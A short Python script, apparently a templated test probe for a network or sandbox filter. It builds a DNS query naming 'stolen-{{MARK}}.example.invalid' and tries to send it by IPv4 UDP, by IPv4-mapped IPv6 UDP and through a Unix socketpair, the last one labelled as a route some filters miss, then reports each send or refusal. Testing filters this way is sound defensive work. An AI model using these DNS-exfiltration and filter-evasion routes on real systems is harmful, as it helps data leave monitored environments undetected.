import socket

NAME = ["stolen-{{MARK}}", "example", "invalid"]
QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"  # one question, recursion wanted
QUERY += b"".join(bytes([len(part)]) + part.encode() for part in NAME) + b"\x00\x00\x01\x00\x01"


def by_datagram(family, kind, address):
    with socket.socket(family, kind) as sender:
        sender.sendto(QUERY, address)


def by_pair():
    # a socket that needs no call of socket(): some filters forget it
    one, _other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(QUERY, "{{UNIX_SOCKET}}")


port = int("{{UDP_PORT}}")
for way in (
    lambda: by_datagram(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port)),
    lambda: by_datagram(socket.AF_INET6, socket.SOCK_DGRAM, ("::ffff:127.0.0.1", port)),
    by_pair,
):
    try:
        way()
        print("sent", flush=True)
    except OSError as error:
        print(f"refused: {error}", flush=True)
